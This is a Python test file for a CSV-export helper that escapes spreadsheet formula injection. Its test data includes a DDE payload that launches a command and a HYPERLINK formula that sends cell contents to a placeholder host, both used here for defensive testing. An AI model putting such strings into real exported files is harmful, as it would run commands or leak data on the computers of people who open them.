from __future__ import annotations

import csv
import io

import pytest

from sm_entrypoints.contract.strangers.tables import as_written, cell, read_table, table
from tests.examples import run_examples

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x.invalid/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "＝1+1",  # noqa: RUF001
    "＠SUM(A1)",  # noqa: RUF001
    "-",
    "-x",
    "+49 30 1234",
    "'=1",
    "''=1",
    "'-5",
]
PLAIN = [
    "cat",
    "",
    "'tis",
    "it's",
    "1=1",
    "a-b",
    "-1",
    "+1",
    "-1.5e-7",
    ".5",
    "a\tb",
    "a\nb",
    "-.5",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_and_reads_back(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert as_written(str(cell(text))) == text


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_other_text_stay_as_they_are(text: str) -> None:
    assert cell(text) == text
    assert as_written(text) == text


@pytest.mark.parametrize("value", [-1, -1.5, True, None])
def test_values_that_are_no_text_stay(value: object) -> None:
    assert cell(value) is value


def test_a_table_reads_back_and_no_cell_of_it_is_a_formula() -> None:
    columns = ("name", "=evil")
    rows = [(each, -1.5) for each in [*FORMULAS, *PLAIN]]
    text = table(columns, rows)
    assert [(row["name"], row["=evil"]) for row in read_table(text)] == [
        (name, "-1.5") for name, _ in rows
    ]
    for row in csv.reader(io.StringIO(text, newline="")):
        for each in row:
            assert each.lstrip(" ")[:1] not in tuple("=@\t\r＝＠"), each  # noqa: RUF001
            assert each[:1] not in ("+", "-") or float(each)


def test_no_rows_and_no_text() -> None:
    assert read_table("") == []
    assert read_table(table(("a", "b"), [])) == []


def test_examples() -> None:
    run_examples("sm_entrypoints.contract.strangers.tables:cell")
    run_examples("sm_entrypoints.contract.strangers.tables:as_written")
